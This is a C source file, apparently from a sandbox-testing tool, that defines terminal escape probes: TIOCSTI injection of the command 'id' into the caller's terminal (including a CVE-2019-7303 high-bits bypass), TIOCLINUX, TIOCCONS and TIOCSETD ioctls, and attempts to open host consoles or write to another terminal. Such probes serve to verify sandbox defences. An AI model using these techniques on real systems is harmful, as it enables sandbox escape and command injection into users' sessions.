/* SPDX-License-Identifier: Apache-2.0 */
/* S-12: the terminal of whoever started us. Standard input is a terminal in these attacks. */
#include <fcntl.h>
#include <linux/tiocl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "probe/probe.h"

static struct verdict push(const struct attempt *at)
{
	/* The kernel looks at 32 bits of the request (CVE-2019-7303: a filter that compares 64). */
	unsigned long request = TIOCSTI | (unsigned long)at->attack->value << 32;

	for (const char *p = "id\n"; *p; p++)
		if (syscall(SYS_ioctl, 0, request, p) < 0)
			return refused(errno);
	return done();
}

/* On what is no terminal: a filter answers before the driver does. */
static struct verdict request_null(const struct attempt *at)
{
	int fd = open("/dev/null", O_RDWR | O_CLOEXEC);
	char code = TIOCL_GETFGCONSOLE;

	if (fd < 0)
		return cannot("/dev/null");
	return reached(syscall(SYS_ioctl, fd, (unsigned long)at->attack->value, &code));
}

static struct verdict open_terminal(const struct attempt *at)
{
	return by_result(open(at->args[0], O_RDWR | O_NOCTTY | O_CLOEXEC | O_NONBLOCK));
}

/* args: the path of a pty that somebody outside reads from. */
static struct verdict write_terminal(const struct attempt *at)
{
	int fd = open(at->args[0], O_RDWR | O_NOCTTY | O_CLOEXEC | O_NONBLOCK);

	return fd < 0 ? refused(errno) : by_result(write(fd, "\nattacked\n", 10));
}

/* args: device and inode of the terminal outside. */
static struct verdict same_terminal(const struct attempt *at)
{
	struct stat st;

	for (int fd = 0; fd < 3; fd++)
		if (fstat(fd, &st) == 0 && st.st_dev == (dev_t)number_of(at->args[0]) &&
		    st.st_ino == (ino_t)number_of(at->args[1]))
			return done();
	return refused_why("another");
}

/* clang-format off */
const struct attack tty_attacks[] = {
	{ "S-12a", "tiocsti", "pushes input into its terminal", push, 0, 0, false },
	{ "S-12b", "tiocsti-high", "the same with garbage in the upper half of the request", push, 1, 0, false },
	{ "S-12c", "tioclinux", "TIOCLINUX: pastes on a console (CVE-2023-1523)", request_null, TIOCLINUX, 0, true },
	{ "S-12d", "tioclinux-high", "the same with garbage in the upper half", request_null, (long)TIOCLINUX | 1L << 32, 0, true },
	{ "S-12e", "tioccons", "TIOCCONS: takes the console's output", request_null, TIOCCONS, 0, true },
	{ "S-12f", "tiocsetd", "TIOCSETD: loads a line discipline", request_null, TIOCSETD, 0, true },
	{ "S-12g", "console", "opens the host's console", open_terminal, 0, 1, true },
	{ "S-12h", "serial", "opens the host's serial line", open_terminal, 0, 1, true },
	{ "S-12i", "pts-host", "writes to another terminal of its user", write_terminal, 0, 1, false },
	{ "S-12j", "terminal-host", "has the caller's terminal as its own", same_terminal, 0, 2, true },
	{ .name = NULL },
};
/* clang-format on */
